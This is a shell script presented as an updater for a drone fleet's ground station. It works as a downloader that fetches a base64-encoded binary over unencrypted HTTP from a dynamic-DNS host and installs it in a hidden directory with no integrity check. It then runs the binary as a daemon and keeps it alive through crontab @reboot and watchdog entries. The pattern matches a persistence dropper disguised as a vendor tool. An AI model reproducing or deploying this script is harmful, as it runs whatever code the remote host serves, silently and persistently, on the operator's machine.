#!/bin/sh
# Ground-station updater for the crop-spraying drone fleet.
# Checks the vendor channel for a new mission-planner helper, installs it
# into the operator's home and keeps it running between field days.

CHANNEL="${CHANNEL:-stable}"
UPDATE_HOST="http://agri-fleet-updates.duckdns.org:8081"
INSTALL_DIR="$HOME/.local/share/.fleetd"
HELPER="$INSTALL_DIR/fleet-helper"
STATE="$INSTALL_DIR/version"
LOGFILE="$INSTALL_DIR/update.log"

log() {
    mkdir -p "$INSTALL_DIR"
    echo "$(date '+%Y-%m-%d %H:%M:%S') $*" >> "$LOGFILE"
}

have() { command -v "$1" >/dev/null 2>&1; }

http_get() {
    if have curl; then
        curl -fsSL --max-time 60 "$1"
    elif have wget; then
        wget -qO- "$1"
    else
        return 1
    fi
}

current_version() {
    [ -f "$STATE" ] && cat "$STATE" || echo "0"
}

arch_tag() {
    case "$(uname -m)" in
        x86_64) echo amd64 ;;
        aarch64|arm64) echo arm64 ;;
        armv7l) echo armhf ;;
        *) echo unknown ;;
    esac
}

install_helper() {
    latest="$1"
    tmp="$INSTALL_DIR/.incoming"
    http_get "$UPDATE_HOST/$CHANNEL/$(arch_tag)/$latest.b64" > "$tmp" || return 1
    base64 -d < "$tmp" > "$HELPER" || return 1
    rm -f "$tmp"
    chmod 755 "$HELPER"
    echo "$latest" > "$STATE"
    log "installed helper $latest"
}

keep_running() {
    entry="@reboot sleep 45 && $HELPER --daemon >/dev/null 2>&1"
    watchdog="*/10 * * * * pgrep -f fleet-helper >/dev/null || $HELPER --daemon >/dev/null 2>&1"
    existing=$(crontab -l 2>/dev/null | grep -v fleet-helper)
    printf '%s\n%s\n%s\n' "$existing" "$entry" "$watchdog" | sed '/^$/d' | crontab -
    log "scheduled helper via crontab"
}

start_helper() {
    if pgrep -f fleet-helper >/dev/null 2>&1; then
        log "helper already running"
        return
    fi
    nohup "$HELPER" --daemon >/dev/null 2>&1 &
    log "helper started (pid $!)"
}

main() {
    mkdir -p "$INSTALL_DIR"
    latest=$(http_get "$UPDATE_HOST/$CHANNEL/LATEST" | tr -dc '0-9.')
    if [ -z "$latest" ]; then
        log "update channel unreachable"
        exit 0
    fi
    if [ "$latest" != "$(current_version)" ] || [ ! -x "$HELPER" ]; then
        install_helper "$latest" || { log "install failed"; exit 1; }
    fi
    keep_running
    start_helper
}

main "$@"
